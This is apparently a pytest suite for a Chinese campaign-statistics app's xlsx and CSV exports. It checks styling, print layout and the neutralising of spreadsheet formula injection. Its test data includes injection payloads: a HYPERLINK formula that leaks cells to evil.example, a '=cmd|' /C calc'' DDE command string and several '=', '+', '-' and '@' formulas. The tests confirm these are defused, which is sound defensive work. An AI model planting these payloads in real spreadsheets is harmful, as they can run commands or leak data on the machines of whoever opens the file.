"""Table exports: xlsx read back with openpyxl (values, the 统计表 look: title, as-of line,
borders, widths, numbers, print setup), printed by LibreOffice one A4 landscape page wide,
CSV read back with csv, injection neutralised."""

from __future__ import annotations

import copy
import csv
import io
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from campaigns.delivery.sending import attachments
from campaigns.planning.metrics import BUILTIN_CATALOGUE
from campaigns.summaries.exports import Cell, neutralise, table_to_csv, table_to_xlsx
from campaigns.summaries.render import heading, table_rows
from campaigns.summaries.workbook import summary_csvs, summary_sheets, summary_xlsx
from campaigns.tallies.templates import display_width
from tests.test_render import SCI_TECH_WEEK, metric
from tests.test_report_docx import pdf_pages
from tests.test_templates import pdf_page_size, soffice

HEADERS = ["指标", "数量", "地点", "备注"]
ROWS: list[list[Cell]] = [
    ["宣传资料", 300, "市民广场", "=1+1"],
    ["参与人次", 620, "科技馆", "+86 138 0000 0000"],
    ["经费", 12500.5, '-HYPERLINK("http://x")', None],
    ["讲座", 12, "@SUM(A1:A2)", "正常备注"],
]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("宣传资料", "宣传资料"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_neutralise(cell: Cell, expected: Cell) -> None:
    assert neutralise(cell) == expected


def read_xlsx(data: bytes) -> dict[str, list[tuple[object, ...]]]:
    workbook = load_workbook(io.BytesIO(data))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in workbook.worksheets}


def test_xlsx_has_chinese_headers_bold_and_the_rows() -> None:
    data = table_to_xlsx(
        [("按指标", HEADERS, ROWS), ("按地点", ["地点", "参与人次"], [["科技馆", 620]])]
    )
    assert read_xlsx(data) == {
        "按指标": [
            ("指标", "数量", "地点", "备注"),
            ("宣传资料", 300, "市民广场", "'=1+1"),
            ("参与人次", 620, "科技馆", "'+86 138 0000 0000"),
            ("经费", 12500.5, '\'-HYPERLINK("http://x")', None),
            ("讲座", 12, "'@SUM(A1:A2)", "正常备注"),
        ],
        "按地点": [("地点", "参与人次"), ("科技馆", 620)],
    }
    sheet = load_workbook(io.BytesIO(data))["按指标"]
    assert all(cell.font.bold for cell in sheet[1])
    assert not any(cell.font.bold for cell in sheet[2])


def test_xlsx_stores_no_formulas() -> None:
    sheet = load_workbook(io.BytesIO(table_to_xlsx([("表", HEADERS, ROWS)])))["表"]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}


def test_xlsx_drops_control_characters_it_cannot_hold() -> None:
    data = table_to_xlsx([("表", ["地点"], [["科技\x00馆\x1b"], ["\x01=1+1"]])])
    assert read_xlsx(data)["表"][1:] == [("科技馆",), ("'=1+1",)]


@pytest.mark.parametrize(
    ("sheets", "message"),
    [
        ([], "at least one sheet"),
        ([("a/b", ["x"], [])], "must not contain"),
        ([("x" * 32, ["x"], [])], "1 to 31"),
        ([("表", ["x"], []), ("表", ["y"], [])], "unique"),
        ([("Sheet", ["x"], []), ("sheet", ["y"], [])], "unique"),
        ([("表", ["x", "y"], [[1]])], "row 1 has 1 cells for 2 headers"),
    ],
)
def test_xlsx_refuses_bad_tables(sheets: list[object], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        table_to_xlsx(sheets)  # type: ignore[arg-type]


def test_csv_has_a_bom_and_neutralised_cells() -> None:
    data = table_to_csv(HEADERS, ROWS)
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["指标", "数量", "地点", "备注"],
        ["宣传资料", "300", "市民广场", "'=1+1"],
        ["参与人次", "620", "科技馆", "'+86 138 0000 0000"],
        ["经费", "12500.5", '\'-HYPERLINK("http://x")', ""],
        ["讲座", "12", "'@SUM(A1:A2)", "正常备注"],
    ]


def test_csv_neutralises_headers_and_refuses_ragged_rows() -> None:
    assert table_to_csv(["=cmd"], []).decode("utf-8-sig") == "'=cmd\r\n"
    with pytest.raises(ValueError, match="row 2"):
        table_to_csv(["a", "b"], [[1, 2], [1]])


# --- the styled workbook: the 统计表 look -------------------------------------------------------

SUMMARY_TITLE = "2019年世界知识产权日宣传周成果统计（2019年4月20日—26日）"
AS_OF = "2019-04-26T18:05+08:00"


def ip_day_figures(
    title: str = "2019年世界知识产权日宣传周", venue: str = "新世纪广场"
) -> dict[str, Any]:
    """Eight metrics with targets, last year, a correction; by day and by venue."""
    figures = copy.deepcopy(SCI_TECH_WEEK)
    figures["kind"] = "digest"
    figures["day"] = "2019-04-26"
    figures["as_of"] = AS_OF
    figures["campaign"].update(id="2019-world-ip-day", title=title)
    figures["metrics"]["materials"] = metric(
        "宣传资料",
        "publicity materials",
        "份",
        "copies",
        12480,
        target=12000,
        previous=10000,
        corrections=-20,
    )
    figures["metrics"]["boards"] = metric(
        "展板", "display boards", "块", "boards", 2, target=4, previous=3
    )
    days = [f"2019-04-{day}" for day in range(20, 27)]
    figures["by_day"] = {m: {d: 10 + i for i, d in enumerate(days)} for m in figures["metrics"]}
    figures["by_venue"] = {m: {venue: 100, "鹤壁市图书馆": 20, "": 3} for m in figures["metrics"]}
    return figures


def summary_sheet(data: bytes, name: str = "汇总") -> Worksheet:
    sheet = load_workbook(io.BytesIO(data))[name]
    assert isinstance(sheet, Worksheet)
    return sheet


def check_table_style(sheet: Worksheet, header_row: int, ncols: int, nrows: int) -> None:
    """Borders around every cell, a bold header, widths that fit, frozen header, A4."""
    last = get_column_letter(ncols)
    for row in range(header_row, header_row + nrows + 1):
        for col in range(1, ncols + 1):
            border = sheet.cell(row, col).border
            sides = (border.left, border.right, border.top, border.bottom)
            assert all(side is not None and side.style == "thin" for side in sides), (row, col)
    assert all(sheet.cell(header_row, col).font.bold for col in range(1, ncols + 1))
    assert not sheet.cell(header_row + 1, 1).font.bold
    for col in range(1, ncols + 1):
        width = sheet.column_dimensions[get_column_letter(col)].width
        for row in range(header_row, header_row + nrows + 1):
            cell = sheet.cell(row, col)
            shown = _shown(cell.value, cell.number_format)
            assert width >= min(display_width(shown), 45), (cell.coordinate, shown, width)
    assert sheet.freeze_panes == f"A{header_row + 1}"
    setup = sheet.page_setup
    assert int(setup.paperSize) == int(sheet.PAPERSIZE_A4)
    assert setup.orientation == "landscape"
    assert (int(setup.fitToWidth), int(setup.fitToHeight)) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr is not None
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == f"${header_row}:${header_row}"
    assert sheet.print_area == f"'{sheet.title}'!$A$1:${last}${header_row + nrows}"


def _shown(value: object, number_format: str) -> str:
    if value is None:
        return ""
    if isinstance(value, int | float) and "%" in number_format:
        return f"{value * 100:+.1f}%"
    if isinstance(value, int | float):
        return f"{value:,}"
    return str(value)


def test_the_summary_sheet_has_title_as_of_line_and_numbers_as_numbers() -> None:
    headers, rows = table_rows(ip_day_figures(), "zh")
    data = table_to_xlsx([("汇总", headers, rows)], title=SUMMARY_TITLE, as_of=AS_OF)
    sheet = summary_sheet(data)
    last = get_column_letter(len(headers))
    merged = {str(r) for r in sheet.merged_cells.ranges}
    assert merged == {f"A1:{last}1", f"A2:{last}2"}
    assert sheet["A1"].value == SUMMARY_TITLE
    assert sheet["A1"].font.bold and sheet["A1"].font.sz == 16
    assert sheet["A1"].alignment.horizontal == "center"
    assert sheet["A2"].value == "数据截至2019年4月26日 18:05"
    assert [c.value for c in sheet[3]] == headers
    check_table_style(sheet, 3, len(headers), len(rows))
    materials = {h: c for h, c in zip(headers, sheet[4 + 3], strict=True)}
    assert materials["指标"].value == "宣传资料"
    assert (materials["合计"].value, materials["合计"].number_format) == (12480, "#,##0")
    assert materials["单位"].value == "份"
    assert (materials["目标"].value, materials["完成率"].value) == (12000, 1.04)
    assert materials["完成率"].number_format == "0%"
    assert (materials["上年同期"].value, materials["同比"].value) == (10000, 0.248)
    assert materials["同比"].number_format == "+0.0%;-0.0%;0.0%"
    assert (materials["其中更正"].value, materials["笔数"].value) == (-20, 4)
    for header in ("合计", "目标", "完成率", "上年同期", "同比", "其中更正", "笔数"):
        assert materials[header].alignment.horizontal == "right", header
        assert materials[header].data_type == "n", header
    lectures = {h: c for h, c in zip(headers, sheet[4], strict=True)}
    assert lectures["目标"].value is None and lectures["同比"].value is None
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}


def test_columns_of_names_stay_text_whatever_they_hold() -> None:
    data = table_to_xlsx(
        [("按地点", ["指标", "地点", "合计"], [["展板", "101", 3], ["展板", "102", "1,200"]])]
    )
    sheet = summary_sheet(data, "按地点")
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["展板", "101", 3],
        ["展板", "102", 1200],
    ]
    assert sheet["B2"].data_type == "s" and sheet["C3"].number_format == "#,##0"
    check_table_style(sheet, 1, 3, 2)


def test_the_summary_attachment_is_the_styled_workbook_and_the_same_csv() -> None:
    figures = ip_day_figures()
    files = {name: data for name, data, _ in attachments(figures)}
    assert set(files) == {"2019-world-ip-day.xlsx", "2019-world-ip-day.csv"}
    workbook = load_workbook(io.BytesIO(files["2019-world-ip-day.xlsx"]))
    assert workbook.sheetnames == ["汇总", "按日", "按地点"]
    headers, rows = table_rows(figures, "zh")
    assert files["2019-world-ip-day.csv"] == table_to_csv(headers, rows)
    expected = {"汇总": (len(headers), 8), "按日": (3, 8 * 7), "按地点": (3, 8 * 3)}
    for name, (ncols, nrows) in expected.items():
        sheet = workbook[name]
        assert isinstance(sheet, Worksheet)
        # The campaign's heading, then the as-of line, then the table.
        assert sheet["A1"].value == heading(figures, "zh"), sheet["A1"].value
        assert "2019" in str(sheet["A2"].value), sheet["A2"].value
        check_table_style(sheet, 3, ncols, nrows)
    venues = workbook["按地点"]
    assert [c.value for c in venues[4]] == ["讲座", "新世纪广场", 100]
    assert "（未注明）" in [c.value for c in venues["B"]]


def test_the_summary_workbook_without_units_is_the_attachment_as_it_was() -> None:
    """`workbook` is what the attachment can be built from: a campaign without reporting
    units gets exactly today's three sheets and one CSV, cell for cell."""
    figures = ip_day_figures()
    files = {name: data for name, data, _ in attachments(figures)}
    assert [name for name, _, _ in summary_sheets(figures)] == ["汇总", "按日", "按地点"]
    assert summary_csvs(figures) == [("2019-world-ip-day.csv", files["2019-world-ip-day.csv"])]
    ours = load_workbook(io.BytesIO(summary_xlsx(figures)))
    theirs = load_workbook(io.BytesIO(files["2019-world-ip-day.xlsx"]))
    assert ours.sheetnames == theirs.sheetnames
    for name in ours.sheetnames:
        mine, sent = ours[name], theirs[name]
        assert isinstance(mine, Worksheet) and isinstance(sent, Worksheet)
        cells = [[(c.value, c.number_format) for c in row] for row in mine.iter_rows()]
        assert cells == [[(c.value, c.number_format) for c in row] for row in sent.iter_rows()]


def test_a_hostile_title_and_venue_are_neutralised() -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")\x00\x1b'
    figures = ip_day_figures(title=hostile, venue="@SUM(1+1)\x07*cmd")
    headers, rows = table_rows(figures, "zh")
    venue_rows = [
        ["展板", venue or "（未注明）", total]
        for venue, total in figures["by_venue"]["boards"].items()
    ]
    data = table_to_xlsx(
        [("汇总", headers, rows), ("按地点", ["指标", "地点", "合计"], venue_rows)],
        title=hostile + "\r\n-2+3",
        as_of="=cmd|' /C calc'!A0",
    )
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        assert sheet["A1"].value == '\'=HYPERLINK("http://evil.example/?"&A1,"点击") -2+3'
        assert sheet["A2"].value == "数据截至=cmd|' /C calc'!A0"
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n"), cell.coordinate
                if isinstance(cell.value, str):
                    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell.value)
    assert workbook["按地点"]["B4"].value == "'@SUM(1+1)*cmd"


# --- printed by LibreOffice ---------------------------------------------------------------------


def test_libreoffice_prints_the_summary_one_page_wide(tmp_path: Path) -> None:
    figures = ip_day_figures()
    headers, rows = table_rows(figures, "zh")
    summary = table_to_xlsx([("汇总", headers, rows)], title=SUMMARY_TITLE, as_of=AS_OF)
    attachment = next(data for name, data, _ in attachments(figures) if name.endswith(".xlsx"))
    # A wide and long table: a province's venues down, eleven metrics across.
    metrics = [f"{m.zh}（{m.unit_zh}）" for m in BUILTIN_CATALOGUE]
    wide_headers = ["地点", *metrics]
    wide_rows: list[list[Cell]] = [
        [f"鹤壁市第{n}届科技活动周主会场及各县区社区文化广场", *range(n, n + len(metrics))]
        for n in range(1, 121)
    ]
    wide = table_to_xlsx([("按地点", wide_headers, wide_rows)], title=SUMMARY_TITLE, as_of=AS_OF)
    sources = []
    for name, data in (("summary", summary), ("attachment", attachment), ("wide", wide)):
        sources.append(tmp_path / f"{name}.xlsx")
        sources[-1].write_bytes(data)
    summary_pdf, attachment_pdf, wide_pdf = (
        p.read_bytes() for p in soffice(sources, "pdf", tmp_path / "pdf", tmp_path)
    )
    # The 8-row 汇总 (4 pages as a bare dump): one page.
    assert pdf_pages(summary_pdf) == 1
    for pdf in (summary_pdf, attachment_pdf, wide_pdf):
        width, height = pdf_page_size(pdf)
        assert (round(width), round(height)) == (842, 595)
    # Fitted one page wide: every page shows the first and the last column's header (the
    # header row is repeated on each page). The attachment: 汇总 on one page, the 56 rows of
    # 按日 on two, 按地点 on one.
    pages = page_texts(attachment_pdf, tmp_path)
    assert len(pages) == 4
    assert all("指标" in page and "合计" in page for page in pages)
    assert "笔数" in pages[0]
    pages = page_texts(wide_pdf, tmp_path)
    assert len(pages) >= 2
    assert all("地点" in page and "经费（元）" in page for page in pages)


def page_texts(pdf: bytes, tmp: Path) -> list[str]:
    """pdftotext of each page, white space removed."""
    path = tmp / "pages.pdf"
    path.write_bytes(pdf)
    texts = []
    for page in range(1, pdf_pages(pdf) + 1):
        result = subprocess.run(
            ["pdftotext", "-f", str(page), "-l", str(page), str(path), "-"],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert result.returncode == 0, result.stderr
        texts.append(re.sub(r"\s+", "", result.stdout))
    return texts
